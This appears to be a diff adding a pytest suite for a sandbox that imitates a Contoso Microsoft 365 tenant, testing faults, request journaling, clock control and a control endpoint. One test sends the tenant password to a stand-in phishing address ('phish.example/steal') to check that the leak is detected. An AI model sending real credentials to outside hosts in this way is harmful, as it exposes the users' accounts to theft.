@@ -1,0 +1,157 @@
+"""Starting, steering and stopping a sandbox."""
+
+import ssl
+import subprocess
+import sys
+import time
+
+import pytest
+
+from troubleshooter import sandbox
+
+
+def test_a_list_of_faults_needs_no_server_and_no_drawing():
+    """The package is cheap to import."""
+    heavy = "{'starlette', 'PIL', 'jinja2'} & {*sys.modules}"
+    code = f"import sys, troubleshooter.sandbox as sandbox; print(bool(sandbox.FAULTS), {heavy})"
+    said = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
+    assert said.strip() == "True set()"
+
+
+def test_every_fault_has_one_sentence():
+    """A list of faults can show them as they are."""
+    assert all(sentence.endswith(".") and "\n" not in sentence for sentence in sandbox.FAULTS.values())
+    assert {
+        "healthy", "stale-copy", "never-visited", "placeholder", "no-photo", "other-photo", "recropped", "broken-image",
+        "slow-images", "subject-not-on-page", "page-missing", "wrong-password",
+    } <= set(sandbox.FAULTS)  # fmt: skip
+
+
+@pytest.mark.parametrize("wrong", [{"fault": "fire"}, {"generation": "third"}])
+def test_an_unknown_name_is_refused_with_the_allowed_ones(wrong):
+    """Before anything is served."""
+    with pytest.raises(ValueError, match=r"no such one, allowed: .*(healthy|mailbox)"), sandbox.running(**wrong):
+        pass
+
+
+def test_the_given_port_and_password_are_used():
+    """And a free port and a new password otherwise."""
+    with sandbox.running() as one:
+        port, password = one.port, one.password
+    with sandbox.running(port=port, password="pa ss") as two:
+        assert (two.port, two.password) == (port, "pa ss")
+    assert len(password) >= 12
+
+
+def test_a_run_knows_what_the_demo_needs(tenant):
+    """Names, addresses, accounts and pages."""
+    assert tenant.subject == tenant.accounts["ana"] == "ana.popescu@contoso.com"
+    assert {"helpdesk", "ioana"} <= set(tenant.accounts)
+    assert len(tenant.pages) == 2
+    assert all(page.startswith(f"{tenant.sharepoint}/sites/communications/SitePages/") for page in tenant.pages)
+    assert (tenant.name, tenant.home, tenant.my) == (
+        "Contoso",
+        "https://www.office.com",
+        "https://contoso-my.sharepoint.com",
+    )
+
+
+def test_the_end_does_not_wait_for_open_connections(stranger):
+    """One idle, one in the middle of a photo that never comes."""
+    with sandbox.running("slow-images") as running:
+        idle, waiting = type(stranger)(running), type(stranger)(running)
+        idle.visit("https://www.office.com/")
+        waiting.sign_in(running.subject)
+        waiting.visit(running.sharepoint)
+        address = waiting.ask(f"{running.sharepoint}/_layouts/15/userphoto.aspx?accountname={running.subject}")
+        connection = waiting._connect()
+        cookies = "; ".join(f"{k}={v}" for k, v in waiting.cookies["contoso.sharepoint.com"].items())
+        target = address.headers["location"]
+        connection.request("GET", target, headers={"Host": "contoso.sharepoint.com", "Cookie": cookies})
+        started = time.monotonic()
+    assert time.monotonic() - started < 2
+    with pytest.raises((ConnectionError, ssl.SSLError)):
+        connection.getresponse()
+    idle.close()
+    waiting.close()
+
+
+def test_requests_are_journaled_by_kind(tenant, stranger):
+    """The tenant's own hosts, calls to the browser's vendor, and anything else."""
+    for host in ("www.office.com", "update.googleapis.com", "accounts.google.com", "login.microsoftonline.example"):
+        stranger.ask(f"https://{host}/somewhere?x=1")
+    assert [(entry.host, entry.kind, entry.status) for entry in tenant.journal.requests] == [
+        ("www.office.com", "tenant", 404),
+        ("update.googleapis.com", "browser", 404),
+        ("accounts.google.com", "browser", 404),
+        ("login.microsoftonline.example", "unexpected", 404),
+    ]
+    assert {entry.query for entry in tenant.journal.requests} == {"x=1"}
+
+
+@pytest.mark.parametrize("how", [{"data": {"x": "PASSWORD"}}, {"headers": {"Authorization": "Basic PASSWORD"}}, {}])
+def test_a_password_is_noticed_wherever_it_goes(tenant, stranger, how):
+    """In a body, in a header, in an address; but it is never written down."""
+    written = {kind: {k: v.replace("PASSWORD", tenant.password) for k, v in part.items()} for kind, part in how.items()}
+    address = "https://phish.example/steal" + ("" if how else f"?p={tenant.password}")
+    stranger.ask(address, **written)
+    (credential,) = tenant.journal.credentials
+    assert (credential.host, credential.path, credential.right) == ("phish.example", "/steal", False)
+
+
+def test_the_clock_moves_forward_only(tenant):
+    """A negative step is refused."""
+    before = tenant.now()
+    tenant.advance(3600)
+    assert 3600 <= (tenant.now() - before).total_seconds() < 3660
+    with pytest.raises(ValueError, match="only moves forward"):
+        tenant.advance(-1)
+
+
+def test_the_control_door_opens_on_its_own_name_only(tenant, stranger):
+    """Its paths mean nothing elsewhere."""
+    assert stranger.ask("https://sandbox.invalid/state").status == 200
+    assert stranger.ask("https://www.office.com/state").status == 404
+
+
+def test_another_process_can_steer_the_sandbox(tenant, stranger):
+    """State, time, fault, journal, reset."""
+    ask = stranger.ask
+    state = ask("https://sandbox.invalid/state").json
+    assert (state["fault"], state["subject"], state["pages"]) == ("healthy", tenant.subject, list(tenant.pages))
+    assert tenant.password not in str(state)
+    before = tenant.now()
+    ask("https://sandbox.invalid/advance", data='{"seconds": 7200}')
+    assert (tenant.now() - before).total_seconds() >= 7200
+    assert ask("https://sandbox.invalid/fault", data='{"name": "no-photo"}').json["fault"] == "no-photo"
+    assert tenant.fault == "no-photo"
+    assert "/advance" in [entry["path"] for entry in ask("https://sandbox.invalid/journal").json["requests"]]
+    ask("https://sandbox.invalid/reset", data="")
+    assert tenant.fault == "healthy"
+    assert (tenant.now() - before).total_seconds() < 3600
+
+
+@pytest.mark.parametrize(
+    ("path", "body", "reason"),
+    [
+        ("fault", '{"name": "fire"}', "allowed: healthy"),
+        ("fault", "{}", "name: missing"),
+        ("advance", '{"seconds": -5}', "only moves forward"),
+        ("advance", "nonsense", "Expecting value"),
+    ],
+)
+def test_a_wrong_order_is_refused_with_its_reason(stranger, path, body, reason):
+    """And changes nothing."""
+    answer = stranger.ask(f"https://sandbox.invalid/{path}", data=body)
+    assert answer.status == 400
+    assert reason in answer.json["error"]
+
+
+def test_the_fault_changes_while_it_is_served(tenant, enter):
+    """Sessions survive, stores do not."""
+    visitor = enter()
+    assert visitor.properties(tenant.subject)["SPS-PicturePlaceholderState"] == "0"
+    tenant.set_fault("placeholder")
+    assert visitor.properties(tenant.subject)["SPS-PicturePlaceholderState"] == "1"
+    with pytest.raises(ValueError, match="allowed"):
+        tenant.set_fault("fire")
